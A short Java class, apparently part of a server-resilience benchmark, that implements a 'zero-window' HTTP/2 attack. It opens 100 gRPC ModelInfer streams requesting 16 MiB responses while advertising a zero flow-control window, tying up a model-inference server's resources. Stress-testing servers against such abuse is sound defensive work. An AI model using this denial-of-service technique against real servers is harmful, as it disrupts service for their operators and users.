package dev.isthmus.bench.attack;

import dev.isthmus.bench.http2.FrameBytes;
import java.io.IOException;

/** 100 gRPC calls with responses of 16 MiB on one connection, whose streams have a window of 0. */
record ZeroWindow() implements Attack {
    private static final int STREAMS = 100;
    private static final long HELD_MILLIS = 5_000;

    @Override
    public String name() {
        return "zero-window";
    }

    @Override
    public AttackResult play(AttackTarget target) throws IOException, InterruptedException {
        byte[] message = Messages.infer("big", "", 4);
        byte[] framed = FrameBytes.message(false, message.length, message);
        AttackResult.Counts counts = new AttackResult.Counts();
        try (Http2 wire = new Http2(target.http2Port(), 0)) {
            for (int i = 0; i < STREAMS; i++) {
                int stream = 2 * i + 1;
                wire.write(FrameBytes.call(stream, "ModelInfer"), 2_000);
                wire.data(stream, framed, true);
            }
            wire.await(() -> wire.endedStreams() == STREAMS, target.brief() ? HELD_MILLIS / 2 : HELD_MILLIS);
            wire.count(counts);
            return counts.seen(true);
        }
    }
}
